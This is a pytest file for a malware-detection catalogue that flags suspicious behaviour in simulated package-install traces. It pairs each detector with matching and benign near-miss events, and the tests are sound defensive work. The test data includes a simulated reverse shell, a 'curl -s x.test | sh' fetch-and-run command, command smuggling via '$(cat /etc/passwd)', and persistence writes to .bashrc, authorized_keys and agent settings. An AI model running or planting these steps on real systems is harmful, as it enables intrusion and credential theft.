"""Every detector against what it must see, and the near miss that it must let pass."""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from analyzer.detectors.catalog import DETECTORS, MATCHES_MAX, run_detectors
from models.evidence import ProofKind, Severity
from models.trace import Event, EventKind
from tests.analyzer.detectors.runs import (
    HOME,
    P1,
    P2,
    P3,
    PID,
    SITE,
    asks,
    calls,
    connects,
    denied,
    event,
    execs,
    forks,
    reads,
    run_of,
    shell,
    talks,
    touches,
    writes,
)

BY_ID = {detector.definition.id: detector for detector in DETECTORS}
SCRATCH = "/tmp"  # noqa: S108 - a path in a box
TMP = f"{SCRATCH}/x/payload"


def deletes(path: str) -> Event:
    return event(EventKind.UNLINK, path=path)


def renames(path: str, to: str) -> Event:
    return event(EventKind.RENAME, path=path, path2=to)


def symlinks(target: str, at: str) -> Event:
    return event(EventKind.LINK, syscall="symlink", path=target, path2=at)


def reverse_shell(
    *, domain: int = 2, connected: bool = True, streams: Sequence[int] = (0, 1, 2)
) -> list[Event]:
    return [
        calls("socket", domain, 1, 0, result=5),
        *([connects("127.0.0.1", 4444)] if connected else []),
        *(calls("dup2", 5, stream, result=stream) for stream in streams),
        execs("/bin/sh", "sh", "-i"),
    ]


def detached(*, setsid: bool, ends: bool) -> list[Event]:
    return [
        forks(200),
        *([calls("setsid", pid=200, result=200)] if setsid else []),
        *([event(EventKind.EXIT, pid=200)] if ends else []),
        event(EventKind.EXIT, pid=PID - 10),
        *([] if ends else [event(EventKind.EXIT, pid=200, result=-1)]),
    ]


MATCHES: list[tuple[str, list[Event], Severity]] = [
    ("canary-left", [talks(canaries=("aws",))], Severity.CRITICAL),
    ("canary-left", [asks("x.sink.test", canaries=("token",), phase=P1)], Severity.CRITICAL),
    ("decoy-read-then-sent", [touches("aws"), talks()], Severity.CRITICAL),
    ("decoy-read-then-sent", [touches("ssh", phase=P2), talks()], Severity.CRITICAL),
    ("decoys-collected", [touches("aws"), touches("ssh"), touches("npm")], Severity.CRITICAL),
    ("decoy-read", [touches("aws")], Severity.HIGH),
    ("decoy-read", [touches("ssh", "open", phase=P1)], Severity.HIGH),
    ("decoy-read", [touches("env")], Severity.MEDIUM),
    ("decoy-written", [touches("ssh", "modify")], Severity.HIGH),
    ("decoy-written", [touches("aws", "delete")], Severity.HIGH),
    ("reverse-shell", reverse_shell(), Severity.CRITICAL),
    ("reverse-shell", reverse_shell(streams=(0, 1)), Severity.CRITICAL),
    (
        "reverse-shell",
        [
            calls("socket", 10, 1, 0, result=5),
            connects("203.0.113.7"),
            forks(200),
            *(calls("dup3", 5, n, 0, pid=200) for n in (0, 1)),
            execs("/bin/bash", "bash", pid=200),
        ],
        Severity.CRITICAL,
    ),
    (
        "exec-memory",
        [event(EventKind.MEMFD, path="x"), execs("/proc/self/fd/5")],
        Severity.CRITICAL,
    ),
    (
        "exec-memory",
        [event(EventKind.MEMFD, path="x"), forks(200), execs("/dev/fd/5", pid=200)],
        Severity.CRITICAL,
    ),
    ("exec-downloaded", [connects("203.0.113.7"), writes(TMP), execs(TMP)], Severity.CRITICAL),
    ("exec-dropped", [writes(TMP), execs(TMP)], Severity.HIGH),
    (
        "exec-dropped",
        [writes(f"{SCRATCH}/x/part"), renames(f"{SCRATCH}/x/part", TMP), execs(TMP)],
        Severity.HIGH,
    ),
    ("exec-dropped", [writes(TMP, P1), execs(TMP, phase=P1)], Severity.HIGH),
    ("exec-dropped", [writes(TMP, P1), execs(TMP, phase=P3)], Severity.HIGH),
    ("exec-downloader", [execs("/usr/bin/curl", "curl", "http://x.test")], Severity.HIGH),
    ("exec-downloader", [execs("/usr/bin/wget", "wget", "x", phase=P1)], Severity.MEDIUM),
    ("exec-downloader", [shell("cd /tmp && curl -s x.test | sh", P2)], Severity.HIGH),
    ("exec-downloader", [execs("/usr/local/bin/curl", "curl", result=-2)], Severity.HIGH),
    ("exec-shell", [shell("id; uname -a")], Severity.MEDIUM),
    ("exec-shell", [shell("id", P2)], Severity.HIGH),
    ("exec-shell", [shell("uname $(cat /etc/passwd)")], Severity.MEDIUM),
    ("exec-process", [execs("/usr/bin/id")], Severity.LOW),
    ("start-hook-acts", [execs("/usr/bin/id", phase=P2)], Severity.HIGH),
    ("start-hook-acts", [connects("203.0.113.7", phase=P2)], Severity.HIGH),
    ("start-hook-acts", [touches("aws", phase=P2)], Severity.HIGH),
    ("start-hook-acts", [asks("c2.test", phase=P2)], Severity.HIGH),
    ("network-connect", [connects("203.0.113.7")], Severity.MEDIUM),
    ("network-connect", [connects("203.0.113.7", 80), talks()], Severity.HIGH),
    ("network-connect", [connects("::ffff:203.0.113.7", phase=P1)], Severity.HIGH),
    ("network-connect", [connects("192.168.1.1", phase=P2)], Severity.HIGH),
    ("metadata-service", [connects("169.254.169.254", 80)], Severity.HIGH),
    ("metadata-service", [asks("metadata.google.internal")], Severity.HIGH),
    (
        "network-listen",
        [event(EventKind.TCP, address="0.0.0.0", port=4444, detail="CLOSE>LISTEN")],
        Severity.MEDIUM,
    ),
    ("dns-exfiltration", [asks(f"{'a1' * 25}.sink.test")], Severity.HIGH),
    ("dns-exfiltration", [asks(f"part{n}.sink.test") for n in range(12)], Severity.HIGH),
    ("dns-lookup", [asks("c2.example.test")], Severity.LOW),
    ("dns-lookup", [asks("c2.example.test", phase=P1)], Severity.MEDIUM),
    ("persistence-write", [writes(f"{HOME}/.bashrc")], Severity.HIGH),
    ("persistence-write", [writes(f"{HOME}/.config/systemd/user/x.service")], Severity.HIGH),
    ("persistence-write", [writes(f"{HOME}/.ssh/authorized_keys")], Severity.HIGH),
    ("persistence-write", [writes("/etc/cron.d/x", result=-13)], Severity.HIGH),
    ("persistence-write", [writes(f"{SITE}/evil.pth")], Severity.HIGH),
    ("persistence-write", [writes(f"{SITE}/sitecustomize.py", P2)], Severity.HIGH),
    ("persistence-write", [renames(f"{SCRATCH}/x", f"{HOME}/.zshrc")], Severity.HIGH),
    ("persistence-write", [writes(f"/proc/self/root{HOME}/.profile")], Severity.HIGH),
    ("persistence-write", [writes(f"{HOME}/project/.git/hooks/pre-commit")], Severity.HIGH),
    *(
        ("persistence-write", [link, writes(f"{SCRATCH}/a/.bashrc")], Severity.HIGH)
        for link in (symlinks(HOME, f"{SCRATCH}/a"), symlinks("../home/dev", f"{SCRATCH}/a"))
    ),
    ("agent-config-write", [writes(f"{HOME}/.claude/settings.json")], Severity.HIGH),
    ("agent-config-write", [writes(f"{HOME}/project/AGENTS.md")], Severity.HIGH),
    ("escape-attempt", [denied("mount")], Severity.HIGH),
    ("escape-attempt", [denied("sigsys")], Severity.HIGH),
    ("process-injection", [denied("ptrace")], Severity.HIGH),
    ("process-injection", [reads("/proc/17/mem")], Severity.HIGH),
    ("process-injection", [reads("/proc/17/task/18/mem")], Severity.HIGH),
    ("process-injection", [reads("/proc//self/../17/./mem")], Severity.HIGH),
    (
        "process-injection",
        [reads("/proc/17/cmdline"), denied("process_vm_readv")],
        Severity.HIGH,
    ),
    (
        "process-injection",
        [reads("/proc/self/maps"), denied("process_vm_readv")],
        Severity.MEDIUM,
    ),
    ("denied-calls", [denied("keyctl")], Severity.LOW),
    (
        "mass-file-change",
        [renames(f"{HOME}/doc{n}", f"{HOME}/doc{n}.locked") for n in range(10)],
        Severity.HIGH,
    ),
    ("own-files-deleted", [deletes(f"{SITE}/demo/loader.py")], Severity.MEDIUM),
    *(
        ("own-files-deleted", [writes(f"{SITE}/demo/real.py", P1), act], Severity.HIGH)
        for act in (
            writes(f"{SITE}/demo/real.py"),
            writes(f"{SITE}/demo/real.py", P2),
            renames(f"{SCRATCH}/tame.py", f"{SITE}/demo/real.py"),
            renames(f"{SITE}/demo", f"{SITE}/other"),
            writes(f"{SITE}/demo/__pycache__/real.cpython-311.pyc"),
            renames(f"{SCRATCH}/python", "/env/bin/python3"),
        )
    ),
    ("process-outlived", detached(setsid=True, ends=False), Severity.MEDIUM),
    ("writes-outside", [writes(f"{HOME}/.config/demo.ini")], Severity.LOW),
]

NEAR_MISSES: list[tuple[str, list[Event]]] = [
    ("canary-left", [talks(), asks("x.test")]),
    ("decoy-read-then-sent", [talks(phase=P2), touches("aws")]),
    ("decoy-read-then-sent", [touches("aws"), talks(size=0)]),
    ("decoy-read-then-sent", [touches("env"), talks()]),
    ("decoys-collected", [touches("aws"), touches("ssh"), touches("env"), touches("aws", "open")]),
    ("decoy-read", [touches("aws", "modify"), reads(f"{HOME}/.aws/config")]),
    ("decoy-written", [touches("aws", "access"), touches("aws", "open")]),
    # subprocess: pipes onto the streams, or one descriptor for both outputs
    ("reverse-shell", reverse_shell(connected=False)),
    ("reverse-shell", reverse_shell(streams=(1, 2))),
    ("reverse-shell", reverse_shell(domain=1)),
    (
        "reverse-shell",
        [
            calls("socket", 2, 1, 0, result=5),
            connects("127.0.0.1"),
            event(EventKind.OPEN, path="/dev/null", result=5),
            calls("dup2", 5, 0),
            calls("dup2", 5, 1),
            execs("/bin/sh", "sh"),
        ],
    ),
    # shared memory
    ("exec-memory", [event(EventKind.MEMFD, path="shm"), execs("/usr/bin/true")]),
    ("exec-memory", [execs("/dev/fd/5")]),
    # configure scripts and compilers
    (
        "exec-dropped",
        [
            forks(120, P1),
            execs("/usr/bin/x86_64-linux-gnu-ld.bfd", "ld", phase=P1, pid=120),
            writes(TMP, P1, pid=120),
            execs(TMP, phase=P1),
        ],
    ),
    ("exec-dropped", [writes(TMP), execs("/usr/bin/true")]),
    ("exec-dropped", [execs(TMP), writes(TMP)]),
    ("exec-dropped", [writes(TMP, result=-13), execs(TMP)]),
    ("exec-dropped", [connects("203.0.113.7"), writes(TMP), execs(TMP)]),
    ("exec-downloaded", [writes(TMP), execs(TMP), connects("203.0.113.7")]),
    ("exec-downloaded", [connects("127.0.0.1"), writes(TMP), execs(TMP)]),
    ("exec-downloader", [execs("/usr/bin/gcc", "gcc", "curl.c"), shell("echo curlew", P1)]),
    # ctypes.util.find_library, platform
    ("exec-shell", [shell("/sbin/ldconfig -p 2>/dev/null"), shell("uname -p 2> /dev/null")]),
    ("exec-shell", [shell("./configure && make", P1)]),
    (
        "exec-process",
        [
            execs("/sbin/ldconfig", "ldconfig", "-p"),
            execs("/usr/bin/gcc", "gcc"),
            execs("/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "collect2"),
            execs("/usr/bin/x86_64-linux-gnu-gcc-12", "gcc"),
            execs("/usr/bin/uname", "uname"),
            execs("/usr/bin/git", "git", "version"),
            execs("/usr/bin/id", result=-2),
            execs("/env/bin/python"),
        ],
    ),
    # distutils-precedence.pth, editable installs, coverage
    (
        "start-hook-acts",
        [
            reads(f"{SITE}/_distutils_hack/__init__.py", P2),
            execs("/sbin/ldconfig", "ldconfig", phase=P2),
            connects("127.0.0.1", phase=P2),
            asks("ws-0417", phase=P2),
        ],
    ),
    ("start-hook-acts", [execs("/usr/bin/id", phase=P3), touches("aws", phase=P3)]),
    # loopback, socket pairs, unix sockets, netlink, resolvers and glibc's routing probes
    (
        "network-connect",
        [
            connects("127.0.0.1", 8000),
            connects("::1", 8000),
            connects("10.0.2.3", 53),
            connects("198.51.100.9", 0),
            event(EventKind.CONNECT, path="/run/nscd/socket", detail="unix"),
            event(EventKind.BIND, detail="netlink"),
        ],
    ),
    ("metadata-service", [connects("169.254.0.1"), asks("google.test")]),
    (
        "network-listen",
        [
            event(EventKind.TCP, address="127.0.0.1", port=8000, detail="CLOSE>LISTEN"),
            event(EventKind.TCP, address="203.0.113.7", port=80, detail="CLOSE>SYN_SENT"),
            event(EventKind.BIND, address="::1"),
        ],
    ),
    ("dns-exfiltration", [asks(f"host{n}.example.test") for n in range(5)]),
    ("dns-lookup", [asks("ws-0417"), asks("printer.local")]),
    (
        "persistence-write",
        [
            reads(f"{HOME}/.bashrc"),
            writes(f"{HOME}/bashrc"),
            writes(f"{SCRATCH}/build/lib/x.pth", P1),
            writes(f"{HOME}/.cache/x"),
        ],
    ),
    (
        "agent-config-write",
        [reads(f"{HOME}/.claude/settings.json"), writes(f"{SITE}/demo/AGENTS.md")],
    ),
    ("escape-attempt", [denied("clone3"), denied("keyctl")]),
    ("process-injection", [reads("/proc/self/mem"), reads("/proc/17/maps")]),
    (
        "denied-calls",
        [denied("clone3"), denied("mount"), denied("ptrace"), denied("io_uring_setup")],
    ),
    ("mass-file-change", [deletes(f"{HOME}/.cache/{n}") for n in range(20)]),
    (
        "mass-file-change",
        [item for n in range(20) for item in (writes(f"{HOME}/t{n}"), deletes(f"{HOME}/t{n}"))],
    ),
    (
        "own-files-deleted",
        [
            deletes(f"{SITE}/demo/__pycache__/a.cpython-311.pyc.1234"),
            deletes(f"{SCRATCH}/x"),
            writes(f"{SITE}/demo/lock"),
            deletes(f"{SITE}/demo/lock"),
        ],
    ),
    (
        "own-files-deleted",
        [
            writes(f"{SITE}/demo/real.py", P1),
            writes(f"{SITE}/demo/data.json", P1),
            writes(f"{SITE}/demo/__pycache__/real.cpython-311.pyc", P1),
            writes(f"{SITE}/demo/data.json"),
            writes(f"{SITE}/demo/parsetab.py"),
            writes(f"{SITE}/demo/real.py", result=-30),
            writes(f"{SITE}/demo/__pycache__/real.cpython-311.pyc.1234"),
            renames(
                f"{SITE}/demo/__pycache__/real.cpython-311.pyc.1234",
                f"{SITE}/demo/__pycache__/real.cpython-311.pyc",
            ),
        ],
    ),
    ("process-outlived", detached(setsid=True, ends=True)),
    ("process-outlived", detached(setsid=False, ends=False)),
    (
        "writes-outside",
        [
            writes(f"{SITE}/demo/x"),
            writes(f"{SCRATCH}/x"),
            writes(f"{HOME}/.cache/x"),
            writes("/dev/null"),
            writes(f"{HOME}/x", result=-13),
            writes("/deps/site-packages/a/__pycache__/b.cpython-311.pyc.99"),
            writes(f"{HOME}/x", P1),
        ],
    ),
]


def found(detector: str, events: list[Event]) -> list[Severity]:
    findings, _ = run_detectors(run_of(events), [BY_ID[detector]])
    return [finding.severity for finding in findings]


def names(table: Sequence[tuple[object, ...]]) -> list[str]:
    return [f"{number}-{row[0]}" for number, row in enumerate(table)]


@pytest.mark.parametrize(("detector", "events", "severity"), MATCHES, ids=names(MATCHES))
def test_detect__sees(detector: str, events: list[Event], severity: Severity) -> None:
    assert severity in found(detector, events)


@pytest.mark.parametrize(("detector", "events"), NEAR_MISSES, ids=names(NEAR_MISSES))
def test_detect__lets_pass(detector: str, events: list[Event]) -> None:
    assert found(detector, events) == []


def test_detectors__each_has_a_match_and_a_near_miss_in_the_tables() -> None:
    assert {row[0] for row in MATCHES} == {row[0] for row in NEAR_MISSES} == BY_ID.keys()


@pytest.mark.parametrize("detector", DETECTORS, ids=BY_ID)
def test_definition__says_what_a_reader_needs(detector: object) -> None:
    definition = BY_ID[detector.definition.id].definition  # type: ignore[attr-defined]  # a Detector
    assert definition.title
    assert definition.rationale.endswith(".")
    assert definition.technique.startswith("T1")
    assert definition.needs


def test_run_detectors__only_a_canary_that_left_is_a_proof() -> None:
    proofs = {item.definition.id: item.definition.proof for item in DETECTORS}

    assert {name: proof for name, proof in proofs.items() if proof} == {
        "canary-left": ProofKind.CANARY_LEFT
    }


def test_run_detectors__names_what_left_and_where_to() -> None:
    findings, _ = run_detectors(run_of([talks("203.0.113.7", canaries=("aws",), phase=P1)]))

    proof = next(item for item in findings if item.proof)
    assert (proof.what, proof.phase, proof.place.address) == ("aws-key", P1, "203.0.113.7")


def test_run_detectors__an_unknown_canary_is_still_a_proof() -> None:
    findings, _ = run_detectors(run_of([talks(canaries=("c99",))]))

    assert [item.what for item in findings if item.proof] == ["unknown"]


def test_run_detectors__matches_beyond_the_bound_are_counted() -> None:
    events = [connects(f"203.0.113.{number}") for number in range(1, MATCHES_MAX + 6)]

    findings, beyond = run_detectors(run_of(events), [BY_ID["network-connect"]])

    assert (len(findings), beyond) == (MATCHES_MAX, 5)


def test_run_detectors__what_pip_does_is_not_charged() -> None:
    events = [
        event(EventKind.OPEN, P1, pid=PID, path=f"{HOME}/.bashrc", flags=1, result=3),
        event(EventKind.CONNECT, P1, pid=PID, address="203.0.113.7", port=443),
    ]

    assert run_detectors(run_of(events)) == ((), 0)


def test_run_detectors__a_quiet_import_gives_nothing() -> None:
    events = [
        reads(f"{SITE}/demo/__init__.py"),
        reads(f"{HOME}/.config/demo.ini"),
        writes("/dev/null"),
        writes(f"{SITE}/demo/__pycache__/__init__.cpython-311.pyc.14042", P3),
        forks(200),
        execs("/usr/bin/uname", "uname", "-p", pid=200),
        calls("socket", 16, 3, 0, result=4),
        event(EventKind.BIND, detail="netlink"),
        denied("clone3"),
    ]

    assert run_detectors(run_of(events)) == ((), 0)
